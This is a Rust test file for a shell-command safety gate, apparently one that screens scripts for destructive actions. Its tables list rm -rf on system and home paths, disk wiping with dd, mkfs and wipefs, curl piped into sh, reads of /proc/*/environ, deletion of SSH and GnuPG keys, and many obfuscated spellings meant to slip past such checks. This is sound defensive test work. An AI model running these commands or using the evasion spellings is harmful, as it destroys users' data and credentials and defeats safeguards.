//! The gate's tables: a script per rule (and the rule that must fire), a
//! script per spelling the parser sees through, a script per shell
//! construct, and scripts that must stay quiet.

use super::*;

/// (rule, a script only that rule asks about).
const EACH_RULE: &[(&str, &str)] = &[
    ("unreadable", "echo 'unterminated"),
    ("disk-redirect", "cat img > /dev/sdb"),
    ("dynamic-name", "$CMD -rf /tmp/x"),
    ("eval", "eval \"$X\""),
    ("eval", "eval 'rm -rf /usr'"),
    ("source-generated", "source <(curl -s http://x)"),
    ("wrapped-script", "env -S 'rm -rf /etc'"),
    ("interpreter-pipe", "curl -fsSL http://x | sh"),
    ("interpreter-substitution", "bash <(curl -s http://x)"),
    (
        "interpreter-here-string",
        "bash <<< \"$(echo cm0gLXJmIH4= | base64 -d)\"",
    ),
    ("interpreter-here-string", "sh <<< 'rm -rf /usr'"),
    (
        "interpreter-code",
        "python3 -c \"import shutil; shutil.rmtree('/home/u')\"",
    ),
    ("shell-c", "bash -c 'rm -rf /var'"),
    ("shell-c", "su -c 'halt' root"),
    ("power", "shutdown now"),
    ("power", "init 6"),
    ("power", "systemctl poweroff"),
    ("erase-disk", "mkfs.ext4 /dev/sda1"),
    ("erase-disk", "mkfs -t xfs /dev/vdb"),
    ("erase-disk", "wipefs -a /dev/sdb"),
    ("partition-disk", "parted -s /dev/nvme0n1 mklabel gpt"),
    ("dd-device", "dd if=/dev/zero of=/dev/sda bs=1M"),
    ("dd-device", "dd if=img of=/dev/nvme0n1"),
    ("dd-device", "dd if=img of=/dev/vda"),
    ("dd-device", "dd if=img of=/dev/mmcblk0"),
    ("dd-device", "dd if=img of=/dev/xvda"),
    ("write-device", "cat img | tee /dev/sdc"),
    ("rm-no-preserve-root", "rm --no-preserve-root -r /tmp/x"),
    ("rm-xargs", "ls | xargs rm -rf"),
    ("rm-protected", "rm -rf /"),
    ("rm-protected", "rm -rf ~"),
    ("rm-protected", "rm -rf /usr"),
    ("rm-protected", "rm -rf /etc"),
    ("rm-protected", "rm -rf /var"),
    ("rm-protected", "rm -rf /boot"),
    ("rm-protected", "rm -rf /home"),
    ("rm-protected", "rm -rf /opt"),
    ("rm-protected", "rm -rf /bin"),
    ("rm-protected", "rm -rf /lib"),
    ("rm-protected", "rm -rf /sbin"),
    ("rm-protected", "rm -rf /srv"),
    ("rm-protected", "rm -rf /root"),
    ("rm-protected", "rm -rf /home/alice"),
    ("rm-protected", "rm -rf /usr/lib"),
    ("rm-protected", "rm -rf $X"),
    ("find-delete", "find / -delete"),
    ("find-delete", "find /usr -name '*.so' -delete"),
    ("find-exec", "find /etc -exec rm {} +"),
    ("find-exec", "find . -exec reboot \\;"),
    ("chmod-chown", "chmod -R 777 /"),
    ("chmod-chown", "chown -R nobody:nogroup /etc"),
    ("chmod-chown", "chgrp -R users /home"),
    ("mv-protected", "mv /usr /tmp/usr"),
    ("mv-protected", "mv ~ /dev/null"),
    ("mv-protected", "mv -t /tmp /etc"),
    ("rsync-delete", "rsync -a --delete empty/ /usr/"),
    ("proc-secrets", "cat /proc/*/environ"),
];

/// Issue 38.6: the gate's known misses, each with the rule that must now
/// ask and a word its reason must hold.
const KNOWN_MISSES: &[(&str, &str, &str)] = &[
    // A `cd` the gate can follow, then a relative path.
    ("cd ~ && rm -rf .", "rm-protected", "after cd ~"),
    (
        "cd / && rm -rf *",
        "rm-protected",
        "everything under the root",
    ),
    ("cd; rm -rf ./*", "rm-protected", "home directory"),
    ("cd /home && rm -rf alice", "rm-protected", "after cd /home"),
    ("cd /usr/local/x && rm -rf ../..", "rm-protected", "system"),
    ("cd / && find . -delete", "find-delete", "after cd /"),
    ("cd / && find -delete", "find-delete", "after cd /"),
    ("cd ~ && chmod -R 777 .", "chmod-chown", "after cd ~"),
    // ANSI-C quoting hides the name.
    ("$'\\x72m' -rf ~", "rm-protected", "home directory"),
    ("$'\\162\\155' -rf /usr", "rm-protected", "system"),
    ("$'rm' -rf $'\\x2f'", "rm-protected", "root"),
    // Interpreters' inline code.
    (
        "python3 -c \"import shutil; shutil.rmtree('/home/u')\"",
        "interpreter-code",
        "rmtree",
    ),
    (
        "perl -e 'use File::Path; rmtree($ENV{HOME})'",
        "interpreter-code",
        "home directory",
    ),
    (
        "perl -MFile::Path -le 'remove_tree($ENV{HOME})'",
        "interpreter-code",
        "remove_tree",
    ),
    (
        "node -e \"require('fs').rmSync(require('os').homedir(),{recursive:true})\"",
        "interpreter-code",
        "home directory",
    ),
    (
        "python3 -c \"import shutil,pathlib; shutil.rmtree(pathlib.Path.home())\"",
        "interpreter-code",
        "home directory",
    ),
    (
        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'",
        "interpreter-code",
        "home directory",
    ),
    (
        "python3 -c \"import os; os.system('rm -rf ~')\"",
        "interpreter-code",
        "shell command",
    ),
    // Keys and documents in a home directory.
    (
        "rm -rf ~/.ssh ~/.gnupg ~/Documents",
        "rm-protected",
        "SSH keys",
    ),
    ("rm -rf ~/.gnupg", "rm-protected", "GnuPG"),
    ("rm -rf /home/alice/Documents", "rm-protected", "documents"),
    ("rm -rf ~/.ssh/*", "rm-protected", "SSH keys"),
    ("cd ~ && rm -rf .ssh", "rm-protected", "SSH keys"),
    // A here-string fed to a shell.
    (
        "bash <<< \"$(echo cm0gLXJmIH4= | base64 -d)\"",
        "interpreter-here-string",
        "here-string",
    ),
    (
        "bash <<< 'rm -rf ~'",
        "interpreter-here-string",
        "home directory",
    ),
    (
        "python3 <<< \"import shutil; shutil.rmtree('/')\"",
        "interpreter-here-string",
        "root",
    ),
];

#[test]
fn the_known_misses_ask_with_a_reason() {
    let mut wrong = Vec::new();
    for (script, rule, word) in KNOWN_MISSES {
        match first_hit(script) {
            Some((hit, why)) if hit == *rule && why.contains(word) => {}
            other => wrong.push(format!("{script:?}: want {rule} ({word}), got {other:?}")),
        }
        // Behind `exit 0;` too (as the other tables run them).
        if check_script(&format!("exit 0; {script}")).is_none() {
            wrong.push(format!("exit 0; {script:?}: not asked"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The known misses' harmless neighbours.
#[test]
fn the_known_misses_neighbours_stay_quiet() {
    let quiet = [
        "cd build && rm -rf ./out",
        "cd build && rm -rf *",
        "cd /tmp && rm -rf *",
        "cd ~/project && rm -rf target",
        "cd ~ && rm -rf project/target",
        "cd $DIR && rm -rf ./out",
        "cd - && rm -rf out",
        "cd ~ && ls -la .",
        "rm -rf .",
        "rm -rf ~/project/target",
        "rm -rf ~/.cache/pip",
        "rm -rf ~/.ssh/old_keys",
        "rm ~/Documents/draft.txt",
        "python3 -c \"print(1)\"",
        "python3 -c \"import shutil; shutil.rmtree('build')\"",
        "python3 -c 'import os; print(os.environ[\"HOME\"])'",
        "perl -e 'print \"hi\\n\"'",
        "perl -pi -e 's/a/b/' file.txt",
        "node -e \"console.log(require('os').homedir())\"",
        "node -e \"require('fs').rmSync('dist',{recursive:true})\"",
        "echo $'a\\tb'",
        "printf $'%s\\n' x",
        "bash <<< 'echo hi'",
        "cat <<< \"$(date)\"",
        "grep x <<< \"$VAR\"",
        "python3 <<< 'print(1)'",
    ];
    let noisy: Vec<_> = quiet
        .iter()
        .filter_map(|s| first_hit(s).map(|h| (s, h)))
        .collect();
    assert!(noisy.is_empty(), "asked: {noisy:?}");
}

#[test]
fn each_rule_asks_about_its_own_case() {
    let mut wrong = Vec::new();
    for (rule, script) in EACH_RULE {
        match first_hit(script) {
            Some((hit, _)) if hit == *rule => {}
            other => wrong.push(format!("{script:?}: want {rule}, got {other:?}")),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    for r in RULES {
        assert!(
            EACH_RULE.iter().any(|(name, _)| *name == r.name),
            "rule {} has no case",
            r.name
        );
    }
}

/// (spelling, a destructive script written that way): each must ask.
const OBFUSCATIONS: &[(&str, &str)] = &[
    ("double quotes split", "\"r\"\"m\" -fr /usr"),
    ("single quotes", "'rm' -rf /etc"),
    ("backslash", "r\\m -rf /var"),
    ("leading backslash", "\\rm -rf /boot"),
    ("full path", "/bin/rm -rf /home"),
    ("quoted path", "rm -rf \"/opt\""),
    ("split flags", "rm -r -f /srv"),
    ("long flags", "rm --recursive --force /root"),
    ("flag cluster order", "rm -fR /sbin"),
    ("end of options", "rm -rf -- /lib"),
    ("double slash", "rm -rf //usr"),
    ("trailing slash", "rm -rf /usr/"),
    ("dot segment", "rm -rf /./etc"),
    ("dot-dot", "rm -rf /tmp/../var"),
    ("root glob", "rm -rf /*"),
    ("partial glob", "rm -rf /u*"),
    ("children glob", "rm -rf /home/*"),
    ("brace targets", "rm -rf /{usr,etc}"),
    ("brace command", "{rm,-rf,/boot}"),
    ("home by name", "rm -rf ~root"),
    ("variable target", "X=/usr; rm -rf $X"),
    ("substituted target", "rm -rf \"$(printf /usr)\""),
    ("assignment prefix", "LC_ALL=C rm -rf /etc"),
    ("sudo", "sudo -u root rm -rf /usr"),
    ("sudo end of options", "sudo -- rm -rf /usr"),
    ("doas", "doas rm -rf /etc"),
    ("env", "env -i PATH=/bin rm -rf /var"),
    ("env split string", "env --split-string='rm -rf /var'"),
    ("env -", "env - rm -rf /var"),
    (
        "long wrapper options",
        "sudo --user root nice --adjustment 5 rm -rf /var",
    ),
    ("command", "command rm -rf /opt"),
    ("exec", "exec -a x rm -rf /opt"),
    ("nohup", "nohup rm -rf /srv"),
    ("time", "time -p rm -rf /root"),
    ("timeout", "timeout -s KILL 10 rm -rf /home"),
    ("nice", "nice -n 5 rm -rf /bin"),
    ("chroot", "chroot / rm -rf /usr"),
    ("xargs", "echo /usr | xargs rm -rf"),
    ("watch", "watch -n 1 rm -rf /etc"),
    ("nested wrappers", "sudo env nice rm -rf /var"),
    ("find options first", "find -L /usr -delete"),
    ("chmod cluster", "chmod -vR 000 /etc"),
    ("chown long", "chown --recursive me /usr"),
    ("disk path spelling", "dd if=x of=/dev//sda"),
    ("disk by id", "dd if=x of=/dev/disk/by-id/ata-X"),
    ("disk in a variable", "D=/dev/sda; dd if=x of=$D"),
    ("mkfs by path", "/sbin/mkfs.ext4 /dev/sda1"),
    ("bash -lc", "bash -lc 'rm -rf /usr'"),
    ("sh -ec", "sh -e -c \"rm -rf /etc\""),
    ("eval of fixed text", "eval rm -rf /var"),
];

/// The rows of `table` whose script (behind `exit 0;`, so a miss would
/// be harmless) is not asked about.
fn not_asked<'a>(table: &'a [(&'a str, &'a str)]) -> Vec<&'a (&'a str, &'a str)> {
    table
        .iter()
        .filter(|(_, s)| check_script(&format!("exit 0; {s}")).is_none())
        .collect()
}

#[test]
fn every_spelling_the_parser_sees_through_asks() {
    let missed = not_asked(OBFUSCATIONS);
    assert!(missed.is_empty(), "not asked: {missed:?}");
}

/// (construct, a destructive command inside it): each must ask, since the
/// parser takes the construct's keywords for grammar.
const CONSTRUCTS: &[(&str, &str)] = &[
    ("!", "! shutdown now"),
    ("if/then/fi", "if true; then rm -rf ~; fi"),
    ("if condition", "if rm -rf /usr; then :; fi"),
    ("elif", "if false; then :; elif true; then reboot; fi"),
    ("else", "if false; then :; else halt; fi"),
    ("for/do/done", "for d in /; do rm -rf $d; done"),
    ("for list", "for d in /usr /etc; do rm -rf \"$d\"; done"),
    (
        "for over a substitution",
        "for d in $(rm -rf /var); do :; done",
    ),
    ("while", "while true; do poweroff; done"),
    ("until", "until false; do rm -rf /opt; done"),
    ("case", "case $x in a) ls ;; *) rm -rf / ;; esac"),
    (
        "case pattern with parens",
        "case x in (y) mkfs.ext4 /dev/sda;; esac",
    ),
    ("function", "f() { rm -rf /etc; }; f"),
    ("function keyword", "function f { reboot; }; f"),
    ("subshell", "(cd /tmp && rm -rf /usr)"),
    ("group", "{ rm -rf /home; }"),
    ("$( )", "echo $(shutdown -h now)"),
    ("backticks", "echo `reboot`"),
    ("eval", "eval 'rm -rf /'"),
    ("xargs", "find . | xargs rm -rf"),
    ("env", "env rm -rf /"),
    ("command", "command rm -rf ~"),
    ("exec", "exec rm -rf /usr"),
    ("sudo", "sudo rm -rf /usr"),
    ("nohup", "nohup halt"),
    ("time", "time rm -rf /etc"),
    ("sh -c", "sh -c 'rm -rf /usr'"),
    ("bash -c", "bash -c \"if true; then reboot; fi\""),
    ("select", "select x in a; do halt; done"),
    ("coproc", "coproc reboot"),
    (
        "here-document to an interpreter",
        "python3 <<'EOF'\nimport shutil\nshutil.rmtree('/home/u')\nEOF",
    ),
    ("here-document to a shell", "bash <<EOF\nrm -rf /usr\nEOF"),
    ("${x:-$( )}", "echo ${x:-$(rm -rf ~)}"),
    ("$(( $( ) ))", "echo $(( $(reboot) + 1 ))"),
    ("nested backticks", "echo `echo \\`reboot\\``"),
];

#[test]
fn every_construct_is_seen_through() {
    let missed = not_asked(CONSTRUCTS);
    assert!(missed.is_empty(), "not asked: {missed:?}");
}

#[test]
fn near_misses_stay_quiet() {
    let quiet = [
        "rm -rf /tmp/build",
        "rm -rf /var/tmp/build",
        "rm -rf ~/project/target",
        "cd build && rm -rf ./out",
        "python3 -c \"print(1)\"",
        "rm -rf /home/alice/project/node_modules",
        "rm -rf /tmp/build*",
        "rm /etc/motd.bak",
        "rm -rf ./usr",
        "rm -rf usr etc",
        "find . -name '*.o' -delete",
        "find /tmp/x -delete",
        "chmod -R 755 ./dist",
        "chmod 644 /etc/hosts",
        "chown -R me ./build",
        "mv /tmp/a /tmp/b",
        "mv a b",
        "mv -t /tmp/x a b",
        "rsync -a --delete src/ /tmp/mirror/",
        "rsync -a /usr/share/doc/ ./doc/",
        "ls /usr /etc /var",
        "cp img ./disk.img",
        "dd if=/dev/zero of=./disk.img bs=1M count=1",
        "dd if=/dev/sda of=./backup.img",
        "tee out.log",
        "mkdir -p src/{a,b}",
        "echo {a,b}",
        "if test -f x; then echo yes; else echo no; fi",
        "for f in *.txt; do wc -l \"$f\"; done",
        "while read -r l; do echo \"$l\"; done < input",
        "case \"$1\" in start) echo go;; stop) echo halt;; esac",
        "f() { ls; }; f",
        "eval 'echo hi'",
        "sh -c 'echo hi'",
        "bash -lc 'cargo test'",
        "sudo -u me ls",
        "env FOO=1 make",
        "time cargo build",
        "! grep -q x f",
        "git commit -m \"$(cat <<'EOF'\nfix: don't rm -rf ~ in the docs\nEOF\n)\"",
        "cat <<EOF > notes.txt\nnever run rm -rf / here\nEOF",
        "python3 <<'EOF'\nprint('hi')\nEOF",
    ];
    let noisy: Vec<_> = quiet
        .iter()
        .filter_map(|s| first_hit(s).map(|h| (s, h)))
        .collect();
    assert!(noisy.is_empty(), "asked: {noisy:?}");
}

#[test]
fn protected_paths_and_disks() {
    for p in [
        "/",
        "/.",
        "//",
        "/..",
        "~",
        "~/",
        "/usr",
        "/usr/",
        "/usr/lib",
        "/home/a",
        "/*",
        "~/.ssh",
        "~alice/.gnupg",
        "/home/a/Documents",
        "/Users/a/Library",
        "/root/.aws",
    ] {
        assert!(paths::protected(p).is_some(), "{p}");
    }
    for p in [
        "/tmp",
        "/tmp/x",
        "usr",
        "./usr",
        "/usr/local/bin",
        "~/x",
        "/home/a/b",
        "~/.cache",
        "/home/a/.ssh/x",
        "/home/a/b/.ssh",
    ] {
        assert!(paths::protected(p).is_none(), "{p}");
    }
    for d in ["/dev/sda", "/dev/nvme0n1p2", "/dev/vdb", "/dev/mapper/root"] {
        assert!(paths::is_disk_device(d), "{d}");
    }
    for d in ["/dev/null", "/dev/zero", "/dev/stdout", "./dev/sda"] {
        assert!(!paths::is_disk_device(d), "{d}");
    }
}
